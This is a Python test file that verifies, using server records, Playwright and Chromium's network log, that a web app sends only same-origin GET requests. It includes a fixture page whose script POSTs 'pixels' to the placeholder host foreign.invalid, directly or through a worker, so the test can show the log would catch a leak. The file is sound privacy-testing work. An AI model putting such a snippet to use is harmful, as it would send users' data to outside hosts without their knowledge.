"""What the whole journey asks of the network, seen by the server, by Playwright and by Chromium.

Three witnesses, because each is blind somewhere: the server sees only what reaches it, Playwright
what the browser tells it of pages and workers, Chromium's own log all that came as far as the
network.
"""

import http.server
import json
import threading
from urllib.parse import urlsplit

import pytest

from tests.browser.support.logged import launch_with_log, site_of
from tools.verify.net_log import NetLog

LEAVES_NOTHING = ("blob", "data")
"""Schemes of addresses that lie inside the browser."""


def test_the_server_received_nothing_but_plain_get_requests(journey):
    assert len(journey.records) > 50
    assert {record.method for record in journey.records} == {"GET"}
    assert {record.query for record in journey.records} == {""}
    assert {record.body_length for record in journey.records} == {0}


def test_the_server_had_everything_that_was_asked_for(journey):
    assert [record.path for record in journey.records if record.status >= 400] == []


def test_pages_and_workers_asked_only_their_own_origin(journey):
    assert len(journey.witness.requests) > 50
    foreign = [
        url
        for _, url, _ in journey.witness.requests
        if not url.startswith(journey.url) and urlsplit(url).scheme not in LEAVES_NOTHING
    ]
    assert foreign == []


def test_pages_and_workers_sent_no_body_and_no_query(journey):
    assert {method for method, _, _ in journey.witness.requests} == {"GET"}
    assert not any(has_body for _, _, has_body in journey.witness.requests)
    assert not any("?" in url for _, url, _ in journey.witness.requests)


def test_nothing_had_to_be_blocked(journey):
    assert journey.witness.violations == []
    assert journey.witness.failed == []


def test_nothing_went_wrong_on_any_console(journey):
    assert journey.witness.errors == []
    assert [text for text in journey.witness.console if text.startswith("error")] == []


def test_the_browser_itself_saw_only_plain_get_requests_to_one_origin(journey):
    requests = journey.net_log.requests_of(site_of(journey.url))

    assert len(requests) > 50
    assert {request.method for request in requests} == {"GET"}
    assert [request.url for request in requests if not request.url.startswith(journey.url)] == []
    assert [request.url for request in requests if "?" in request.url or request.has_body] == []


@pytest.mark.parametrize("sender", ["page", pytest.param("worker", marks=pytest.mark.slow)])
def test_the_log_would_show_a_request_to_a_foreign_origin(browser, tmp_path, sender):
    """The witness of the test above sees what it has to: here a page does send something."""
    log = tmp_path / "net-log.json"
    with telltale_page(sender) as url:
        logging = launch_with_log(browser.browser_type, log)
        page = logging.new_page()
        page.goto(url)
        page.wait_for_selector("html[data-sent]")
        logging.close()

    requests = NetLog(log).requests_of(site_of(url))
    seen = [(r.method, r.url, r.has_body) for r in requests if not r.url.startswith(url)]
    assert ("POST", "http://foreign.invalid/?photo", True) in seen


class telltale_page:  # noqa: N801
    """Serve a page that sends something to a foreign origin, itself or through a worker."""

    def __init__(self, sender):
        send = "fetch('http://foreign.invalid/?photo', {method: 'POST', body: 'pixels'})"
        told = "document.documentElement.dataset.sent = ''"
        if sender == "worker":
            source = json.dumps(f"{send}.catch(() => postMessage('sent'))")
            script = f"new Worker(URL.createObjectURL(new Blob([{source}]))).onmessage"
            script += f" = () => {{ {told} }}"
        else:
            script = f"{send}.catch(() => {{ {told} }})"
        self.body = f"<!doctype html><script>{script}</script>".encode()

    def __enter__(self):
        body = self.body

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                """Print nothing."""

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{self.server.server_port}/"

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()
